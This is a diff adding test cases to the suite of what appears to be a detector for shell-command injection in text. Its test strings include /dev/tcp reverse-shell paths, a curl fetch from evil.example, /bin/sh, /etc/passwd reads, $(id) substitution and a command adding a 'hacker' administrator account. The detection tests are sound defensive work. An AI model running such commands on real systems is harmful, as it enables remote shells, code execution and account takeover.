@@ -155,6 +155,8 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['see /*x*/ or', M.SLASH],
     ['see /../../etc/passwd', M.SLASH],
     ['x-y /tmp/x', M.SLASH],
+    ['x/dev/tcp/10.0.0.1/4444 ok', M.SLASH],
+    ['see https://e.co/a?b=c /dev/tcp/1.2.3.4/80', M.SLASH],
     ['see /a?b=$(id)', M.DOLLAR],
     // an address that may be the argument of a command before it (or after a heart, `$5`, another address)
     ['<3 net localgroup Administrators hacker /ADD', M.SLASH],
@@ -267,6 +269,11 @@ describe('the line-rate pass keeps detection', () => {
     'go /x?a=1&c=cat /etc/passwd',
     '<3 net localgroup Administrators hacker /ADD',
     '<3 wget x https://e.co/?a=1&b=2',
+    // a first word as the command detector reads it: after a quote, as a path's last part, after an
+    // empty expansion
+    '"let x /bin/sh',
+    'version/usr/bin/curl x https://evil.example/x.sh',
+    ' $5 echo a.com',
   ])('still flags %s', (s) => {
     expect(d.first(s)).not.toBeNull()
   })
